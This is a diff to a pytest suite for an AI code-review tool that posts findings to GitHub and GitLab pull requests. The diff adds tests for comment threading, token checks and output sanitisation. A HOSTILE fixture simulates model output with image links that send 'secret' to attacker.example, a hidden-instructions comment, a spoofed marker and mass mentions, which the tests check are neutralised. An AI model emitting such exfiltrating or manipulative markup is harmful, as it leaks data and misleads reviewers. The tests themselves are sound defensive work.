@@ -61,6 +61,10 @@ def github():
     gh.close()
 
 
+def summaries(comments: list[dict]) -> list[dict]:
+    return [c for c in comments if "<!-- repoview:summary -->" in c["body"]]
+
+
 def test_github_one_comment_updated_and_inline_once(
     change, github, provider, tmp_path, cli
 ) -> None:
@@ -71,13 +75,16 @@ def test_github_one_comment_updated_and_inline_once(
     )
     r = cli("ci", cwd=repo, env=env)
     assert r.code == 0, r.err
-    ours = [c for c in github.issue_comments if "<!-- repoview:summary -->" in c["body"]]
+    ours = summaries(github.issue_comments)
     assert len(ours) == 1 and "Far away" in ours[0]["body"] and "Consider tests" in ours[0]["body"]
-    assert "Multiplies" not in ours[0]["body"]  # it went inline
     assert len(github.reviews) == 1
     comment = github.reviews[0]["comments"][0]
     assert comment["path"] == "app.py" and comment["line"] == 6 and comment["side"] == "RIGHT"
     assert github.reviews[0]["commit_id"] == head
+    # The summary names every finding; the inline one links to its comment.
+    url = github.review_comments[0]["html_url"]
+    assert f"Multiplies** (bug) — `app.py:6` — [inline comment]({url})" in ours[0]["body"]
+    assert "No findings." not in ours[0]["body"]
     summary = (tmp_path / "summary.md").read_text()
     assert "Multiplies" in summary and "Far away" in summary
     # The provider saw the change in full context.
@@ -86,14 +93,152 @@ def test_github_one_comment_updated_and_inline_once(
     provider.responder = lambda _req: ok(findings_json(INLINE, OUTSIDE, summary="Second run."))
     r = cli("ci", cwd=repo, env=env)
     assert r.code == 0, r.err
-    ours = [c for c in github.issue_comments if "<!-- repoview:summary -->" in c["body"]]
+    ours = summaries(github.issue_comments)
     assert len(ours) == 1 and "Second run." in ours[0]["body"]
     assert len(github.reviews) == 1 and len(github.review_comments) == 1
     patched = [q for q in github.requests if q[0] == "PATCH"]
-    assert len(patched) == 1
+    assert len(patched) == 1  # the summary; the unchanged inline comment is kept as it is
     listing = [q for q in github.requests if q[0] == "GET" and q[1].endswith("/issues/7/comments")]
     assert len(listing) >= 4  # two pages, each run
     assert GH_TOKEN not in r.out + r.err and KEY not in r.out + r.err
+
+
+REWORDED = {"severity": "critical", "category": "bug", "title": "Wrong operator in f1",
+            "path": "app.py", "line": 7, "body": "`*` where `+` was meant"}  # fmt: skip
+
+
+def test_github_reworded_finding_keeps_one_thread_and_resolves_when_gone(
+    change, github, provider, tmp_path, cli
+) -> None:
+    repo, base, head = change
+    env = gh_env(repo, base, head, github, provider, tmp_path)
+    provider.responder = lambda _req: ok(findings_json(INLINE))
+    assert cli("ci", cwd=repo, env=env).code == 0
+    # The model words the same finding differently, a line further down.
+    provider.responder = lambda _req: ok(findings_json(REWORDED))
+    r = cli("ci", cwd=repo, env=env)
+    assert r.code == 0, r.err
+    assert len(github.review_comments) == 1 and len(github.reviews) == 1
+    only = github.review_comments[0]
+    assert "Wrong operator in f1" in only["body"] and "Multiplies" not in only["body"]
+    ours = summaries(github.issue_comments)
+    assert len(ours) == 1
+    assert (
+        f"Wrong operator in f1** (bug) — `app.py:7` — [inline comment]({only['html_url']})"
+        in (ours[0]["body"])
+    )
+    assert not github.threads[0]["isResolved"]
+    # Fixed: the finding is gone, so its thread is resolved and the summary says so.
+    provider.responder = lambda _req: ok(findings_json())
+    r = cli("ci", cwd=repo, env=env)
+    assert r.code == 0, r.err
+    assert github.threads[0]["isResolved"] and len(github.review_comments) == 1
+    body = summaries(github.issue_comments)[0]["body"]
+    assert "1 finding(s) from an earlier run are no longer reported" in body
+    # It comes back: the same thread is reopened, not a second one posted.
+    provider.responder = lambda _req: ok(findings_json(INLINE))
+    assert cli("ci", cwd=repo, env=env).code == 0
+    assert not github.threads[0]["isResolved"] and len(github.review_comments) == 1
+
+
+def test_github_without_graphql_replies_once(change, github, provider, tmp_path, cli) -> None:
+    repo, base, head = change
+    env = gh_env(repo, base, head, github, provider, tmp_path)
+    env["GITHUB_GRAPHQL_URL"] = f"{github.url}/no-graphql-here"
+    provider.responder = lambda _req: ok(findings_json(INLINE))
+    assert cli("ci", cwd=repo, env=env).code == 0
+    provider.responder = lambda _req: ok(findings_json())
+    for _run in range(2):
+        assert cli("ci", cwd=repo, env=env).code == 0
+    replies = [c for c in github.review_comments if c.get("in_reply_to_id")]
+    assert len(replies) == 1 and "no longer reports" in replies[0]["body"]
+    provider.responder = lambda _req: ok(findings_json(INLINE))
+    for _run in range(2):
+        assert cli("ci", cwd=repo, env=env).code == 0
+    replies = [c for c in github.review_comments if c.get("in_reply_to_id")]
+    assert len(replies) == 2 and "reports this again" in replies[1]["body"]
+    assert len(github.reviews) == 1
+
+
+def test_github_other_users_comments_are_never_edited(
+    change, github, provider, tmp_path, cli
+) -> None:
+    repo, base, head = change
+    fake = "<!-- repoview:summary -->\nI copied the marker"
+    github.issue_comments.append({"id": 50, "body": fake, "user": {"login": "mallory", "id": 6}})
+    marker = (
+        '<!-- repoview:finding {"path": "app.py", "category": "bug", "line": 6, "anchor": ""} -->'
+    )
+    github.review_comments.append({"id": 51, "body": "human\n" + marker, "path": "app.py",
+                                   "line": 6, "user": {"login": "mallory", "id": 6},
+                                   "html_url": "https://github.example/x"})  # fmt: skip
+    provider.responder = lambda _req: ok(findings_json(INLINE))
+    r = cli("ci", cwd=repo, env=gh_env(repo, base, head, github, provider, tmp_path))
+    assert r.code == 0, r.err
+    assert github.issue_comments[3]["body"] == fake
+    assert github.review_comments[0]["body"] == "human\n" + marker
+    mine = summaries([c for c in github.issue_comments if c["user"] == github.me])
+    assert len(mine) == 1 and len(github.reviews) == 1
+
+
+def test_github_actions_token_writes_as_the_bot(change, provider, tmp_path, cli) -> None:
+    repo, base, head = change
+    gh = FakeGitHub(GH_TOKEN, "octo/app", 7, integration=True)
+    gh.valid_lines = {("app.py", n) for n in range(3, 10)}
+    try:
+        env = gh_env(repo, base, head, gh, provider, tmp_path)
+        provider.responder = lambda _req: ok(findings_json(INLINE))
+        for _run in range(2):
+            assert cli("ci", cwd=repo, env=env).code == 0
+        ours = summaries(gh.issue_comments)
+        assert len(ours) == 1 and ours[0]["user"]["login"] == "github-actions[bot]"
+        assert len(gh.review_comments) == 1
+    finally:
+        gh.close()
+
+
+HOSTILE = {"severity": "high", "category": "security", "title": "Ping @everyone now",
+           "path": "app.py", "line": 6,
+           "body": ("cc @org/team ![x](https://attacker.example/p.png?d=secret) "
+                    '<img src="https://attacker.example/i.png"> <!-- repoview:summary --> '
+                    "<!-- hidden instructions --> but `@keep` in code")}  # fmt: skip
+
+
+def test_model_text_is_neutralised_everywhere(change, github, provider, tmp_path, cli) -> None:
+    repo, base, head = change
+    env = gh_env(repo, base, head, github, provider, tmp_path)
+    hostile_general = {**HOSTILE, "path": None, "line": None, "title": "General @all"}
+    provider.responder = lambda _req: ok(
+        findings_json(
+            HOSTILE, hostile_general, summary="@everyone look ![y](https://attacker.example/s.png)"
+        )
+    )
+    r = cli("ci", cwd=repo, env=env)
+    assert r.code == 0, r.err
+    ours = summaries(github.issue_comments)
+    bodies = [c["body"] for c in github.review_comments] + [ours[0]["body"]]
+    for body in bodies:
+        assert "@everyone" not in body and "@org/team" not in body and "@all" not in body
+        assert "![" not in body and "<img" not in body and "hidden instructions" not in body
+        assert "attacker.example/p.png" in body or "attacker.example/s.png" in body  # as a link
+    assert "`@keep`" in github.review_comments[0]["body"]  # code is left alone
+    assert ours[0]["body"].count("<!-- repoview:summary -->") == 1
+    assert "repoview:summary" not in github.review_comments[0]["body"]
+    assert "@everyone" not in (tmp_path / "summary.md").read_text()
+
+
+def test_missing_forge_token_fails_before_the_model(
+    change, github, provider, tmp_path, cli
+) -> None:
+    repo, base, head = change
+    env = gh_env(repo, base, head, github, provider, tmp_path)
+    env["GITHUB_TOKEN"] = ""
+    r = cli("ci", cwd=repo, env=env)
+    assert r.code == 2 and "GITHUB_TOKEN is not set" in r.err
+    env["GITHUB_TOKEN"] = "ghs_wrong"
+    r = cli("ci", cwd=repo, env=env)
+    assert r.code == 2 and "GITHUB_TOKEN was rejected" in r.err
+    assert not provider.requests  # nothing was paid for
 
 
 def test_github_422_falls_back_to_the_summary(change, github, provider, tmp_path, cli) -> None:
@@ -156,37 +301,92 @@ def test_outside_ci_is_a_clear_error(change, cli) -> None:
     assert r.code == 2 and "--provider" in r.err
 
 
-def test_gitlab_note_updated_and_discussion_positions(change, provider, tmp_path, cli) -> None:
-    repo, base, head = change
-    refs = {"base_sha": base, "start_sha": base, "head_sha": head}
-    gl = FakeGitLab("glpat-token-for-tests-0123", "42", 3, refs)
+def gl_env(gl: FakeGitLab, base: str, head: str, provider: Provider) -> dict[str, str]:
+    return {"GITLAB_CI": "true", "CI_API_V4_URL": f"{gl.url}/api/v4", "CI_PROJECT_ID": "42",
+            "CI_MERGE_REQUEST_IID": "3", "CI_MERGE_REQUEST_DIFF_BASE_SHA": base,
+            "CI_COMMIT_SHA": head, "GITLAB_TOKEN": GL_TOKEN,
+            "REPOVIEW_BASE_URL": provider.url, "REPOVIEW_API_KEY": KEY}  # fmt: skip
+
+
+GL_TOKEN = "glpat-token-for-tests-0123"
+
+
+@pytest.fixture
+def gitlab(change):
+    _repo, base, head = change
+    gl = FakeGitLab(GL_TOKEN, "42", 3, {"base_sha": base, "start_sha": base, "head_sha": head})
     gl.valid_lines = {("app.py", n) for n in range(3, 10)}
-    env = {"GITLAB_CI": "true", "CI_API_V4_URL": f"{gl.url}/api/v4", "CI_PROJECT_ID": "42",
-           "CI_MERGE_REQUEST_IID": "3", "CI_MERGE_REQUEST_DIFF_BASE_SHA": base,
-           "CI_COMMIT_SHA": head, "GITLAB_TOKEN": "glpat-token-for-tests-0123",
-           "REPOVIEW_BASE_URL": provider.url, "REPOVIEW_API_KEY": KEY}  # fmt: skip
-    try:
-        provider.responder = lambda _req: ok(findings_json(INLINE, OUTSIDE))
-        for _run in range(2):
-            r = cli("ci", cwd=repo, env=env)
-            assert r.code == 0, r.err
-        ours = [n for n in gl.notes if "<!-- repoview:summary -->" in n["body"]]
-        assert len(ours) == 1 and "Far away" in ours[0]["body"]
-        assert len(gl.discussions) == 1
-        pos = gl.discussions[0]["notes"][0]["position"]
-        assert pos == {"position_type": "text", "base_sha": base, "start_sha": base,
-                       "head_sha": head, "old_path": "app.py", "new_path": "app.py",
-                       "new_line": 6}  # fmt: skip
-        assert [q[0] for q in gl.requests].count("PUT") == 1
-        assert "glpat-token-for-tests-0123" not in r.out + r.err
-    finally:
-        gl.close()
+    yield gl
+    gl.close()
 
 
-def test_action_and_gitlab_template_are_shipped() -> None:
-    root = Path(__file__).parent.parent
-    action = (root / "action.yml").read_text()
-    assert "using: composite" in action and "repoview ci" in action
-    workflow = (root / "examples" / "github-workflow.yml").read_text()
-    assert "pull-requests: write" in workflow and "cancel-in-progress: true" in workflow
-    assert "repoview ci" in (root / "examples" / "gitlab-ci.yml").read_text()
+def test_gitlab_note_updated_and_discussion_positions(change, gitlab, provider, cli) -> None:
+    repo, base, head = change
+    gl = gitlab
+    gl.notes.append({"id": 9, "body": "<!-- repoview:summary --> not mine", "author": {"id": 5}})
+    env = gl_env(gl, base, head, provider)
+    provider.responder = lambda _req: ok(findings_json(INLINE, OUTSIDE))
+    r = cli("ci", cwd=repo, env=env)
+    assert r.code == 0, r.err
+    provider.responder = lambda _req: ok(findings_json(REWORDED, OUTSIDE))
+    r = cli("ci", cwd=repo, env=env)
+    assert r.code == 0, r.err
+    ours = [n for n in gl.notes if n["author"] == gl.me]
+    assert len(ours) == 1 and "Far away" in ours[0]["body"]
+    assert gl.notes[3]["body"] == "<!-- repoview:summary --> not mine"  # another user's
+    assert len(gl.discussions) == 1
+    note = gl.discussions[0]["notes"][0]
+    assert "Wrong operator in f1" in note["body"]
+    assert f"[inline comment]({gl.web_url}#note_{note['id']})" in ours[0]["body"]
+    pos = note["position"]
+    assert pos == {"position_type": "text", "base_sha": base, "start_sha": base,
+                   "head_sha": head, "old_path": "app.py", "new_path": "app.py",
+                   "new_line": 6}  # fmt: skip
+    assert [q[0] for q in gl.requests].count("PUT") == 2  # the note and the discussion's note
+    assert GL_TOKEN not in r.out + r.err
+    # The finding is gone: its discussion is resolved.
+    provider.responder = lambda _req: ok(findings_json(OUTSIDE))
+    assert cli("ci", cwd=repo, env=env).code == 0
+    assert note["resolved"] is True and len(gl.discussions) == 1
+
+
+def test_gitlab_token_checked_before_the_model(change, gitlab, provider, cli) -> None:
+    repo, base, head = change
+    env = gl_env(gitlab, base, head, provider)
+    r = cli("ci", cwd=repo, env={**env, "GITLAB_TOKEN": ""})
+    assert r.code == 2 and "GITLAB_TOKEN is not set" in r.err
+    gitlab.scopes = ["read_api"]
+    r = cli("ci", cwd=repo, env=env)
+    assert r.code == 2 and "GITLAB_TOKEN lacks the `api` scope" in r.err
+    assert not provider.requests
+
+
+def test_action_review_step_runs_and_sets_outputs(change, github, provider, tmp_path) -> None:
+    """The Action's own review script, run as Actions runs it, against the stand-ins."""
+    import subprocess
+    import sys
+
+    import yaml
+
+    repo, base, head = change
+    action = yaml.safe_load((Path(__file__).parent.parent / "action.yml").read_text())
+    step = next(s for s in action["runs"]["steps"] if s.get("id") == "review")
+    runner = tmp_path / "runner"
+    (runner / "repoview-venv" / "bin").mkdir(parents=True)
+    (runner / "repoview-venv" / "bin" / "repoview").symlink_to(
+        Path(sys.executable).parent / "repoview"
+    )
+    outputs = tmp_path / "outputs"
+    env = {**gh_env(repo, base, head, github, provider, tmp_path), "RUNNER_TEMP": str(runner),
+           "GITHUB_OUTPUT": str(outputs), "INPUT_FAIL_ON": "high", "INPUT_SARIF": "",
+           "PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}  # fmt: skip
+    provider.responder = lambda _req: ok(findings_json(INLINE, GENERAL))
+    proc = subprocess.run(["bash", "-e", "-c", step["run"]], cwd=repo, env=env,
+                          capture_output=True, text=True, check=False)  # fmt: skip
+    assert proc.returncode == 1, proc.stderr  # fail-on high
+    got = dict(line.split("=", 1) for line in outputs.read_text().splitlines())
+    assert got["findings"] == "2" and got["highest-severity"] == "high"
+    assert got["sarif"] == f"{runner}/repoview.sarif" and got["report"] == f"{runner}/repoview.json"
+    assert json.loads(Path(got["sarif"]).read_text())["runs"][0]["results"]
+    assert len(json.loads(Path(got["report"]).read_text())["findings"]) == 2
+    assert len(summaries(github.issue_comments)) == 1
